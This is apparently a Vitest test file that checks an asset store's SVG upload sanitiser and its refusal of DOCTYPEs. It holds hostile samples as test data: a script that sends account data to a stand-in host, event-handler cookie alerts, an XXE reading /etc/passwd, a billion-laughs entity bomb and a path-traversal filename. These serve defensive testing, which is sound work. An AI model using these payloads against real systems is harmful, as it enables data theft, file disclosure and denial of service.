import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { startStore, type Store } from '#test-support/store.ts';
import { signInAs } from '#test-support/session.ts';
import { postMultipart } from '#test-support/multipart.ts';
import { testPort } from '#test-support/ports.ts';

/**
 * Hostile SVGs where the store accepts SVG: a character's source file (`POST /api/admin/characters/{id}/files`,
 * the same code the artist's form runs). Whatever is stored is the sanitised drawing: no script, event
 * attribute, foreignObject or outside reference survives, a DOCTYPE (XML bombs, external entities) is
 * refused, the file keeps its (cleaned) name and its pixel size and transparency are read from it.
 */
const PORT = testPort(4493);

let store: Store;
let cookie: string;
let characterId: string;

type Row = { fileName: string; storageKey: string; format: string; width: number | null; height: number | null; transparent: boolean | null };
const upload = async (filename: string, body: string | Buffer) => {
  const res = await postMultipart(store.url, `/api/admin/characters/${characterId}/files`, cookie, [{ name: 'file', filename, type: 'image/svg+xml', data: Buffer.isBuffer(body) ? body : Buffer.from(body) }]);
  return { status: res.status, text: res.text, row: res.status === 201 ? (JSON.parse(res.text) as Row) : null };
};
const stored = async (key: string) => {
  const res = await fetch(`${store.url}/api/admin/files/${key}`, { headers: { cookie } });
  return { type: res.headers.get('content-type'), text: await res.text() };
};
const svg = (body: string, attrs = '') => `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300"${attrs}>${body}<rect width="40" height="40" fill="#f5a623"/></svg>`;

describe('SVG upload attacks (character source file)', () => {
  beforeAll(async () => {
    store = await startStore({ port: PORT, name: 'svg-upload-attacks' });
    cookie = (await signInAs(store.url, 'admin')).cookie;
    const list = (await (await fetch(`${store.url}/api/admin/characters`, { headers: { cookie } })).json()) as { rows: { id: string }[] };
    characterId = list.rows[0]!.id;
  });
  afterAll(() => store?.stop());

  it('keeps a clean drawing, its name, and reads its size and transparency from it', async () => {
    const { status, row } = await upload('Sunny Blob (arms up).svg', svg('<g id="arm-right" data-pivot="20 10"><circle cx="20" cy="10" r="5"/></g>'));
    expect(status).toBe(201);
    expect(row).toMatchObject({ format: 'SVG', fileName: 'Sunny Blob (arms up).svg', width: 400, height: 300, transparent: true });
    const file = await stored(row!.storageKey);
    expect(file.type).toBe('image/svg+xml');
    expect(file.text).toContain('<g id="arm-right" data-pivot="20 10">');
  });

  it.each([
    ['script element', svg('<script>fetch("/api/account").then(r=>r.text()).then(t=>new Image().src="https://evil.example/?"+t)</script>'), /<script|evil\.example/],
    ['onload and onclick attributes', svg('<rect width="5" height="5" onclick="alert(1)"/>', ' onload="alert(document.cookie)"'), /onload|onclick|alert/],
    ['foreignObject with HTML', svg('<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>'), /foreignObject|iframe|evil\.example/i],
    ['outside references (use, image, url(), @import)', svg('<use xlink:href="https://evil.example/s.svg#a"/><image href="http://evil.example/p.png" width="9" height="9"/><rect width="9" height="9" fill="url(https://evil.example/f#x)"/><style>@import url(https://evil.example/x.css);</style>'), /evil\.example|<image/],
    ['javascript: and data: links', svg('<a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:image/svg+xml;base64,PHN2Zy8+"/>'), /javascript:|data:/],
    ['animation that rewrites a link', svg('<a><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>y</text></a>'), /javascript:|<set|<animate/],
  ])('stores a drawing with a %s only sanitised', async (_what, body, forbidden) => {
    const { status, row, text } = await upload('attack.svg', body);
    expect(status, text.slice(0, 200)).toBe(201);
    const file = await stored(row!.storageKey);
    expect(file.type).toBe('image/svg+xml');
    expect(file.text).not.toMatch(forbidden);
    expect(file.text).toContain('<rect width="40" height="40" fill="#f5a623">');
  });

  it('refuses DOCTYPEs (billion laughs, external entities) and XML that is no drawing, with a 4xx and a reason', async () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`;
    const xxe = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>';
    for (const [name, body] of [['laughs.svg', laughs], ['xxe.svg', xxe]] as const) {
      const res = await upload(name, body);
      expect(res.status, name).toBe(415);
      expect(res.text).toContain('DOCTYPE');
    }
    const notSvg = await upload('page.svg', '<?xml version="1.0"?><html><body><script>alert(1)</script></body></html>');
    expect(notSvg.status).toBe(415);
    expect(notSvg.text).toContain('not an SVG drawing');
    expect((await fetch(`${store.url}/api/health`)).status).toBe(200);
  });

  it('takes a PNG named .svg as the PNG it is, and tells an opaque picture from a transparent one', async () => {
    const opaque = await sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 10, g: 20, b: 30, alpha: 1 } } }).png().toBuffer();
    const res = await upload('../../poster.svg', opaque);
    expect(res.status).toBe(201);
    expect(res.row).toMatchObject({ format: 'PNG', fileName: 'poster.svg.png', width: 300, height: 200, transparent: false });
  });
});
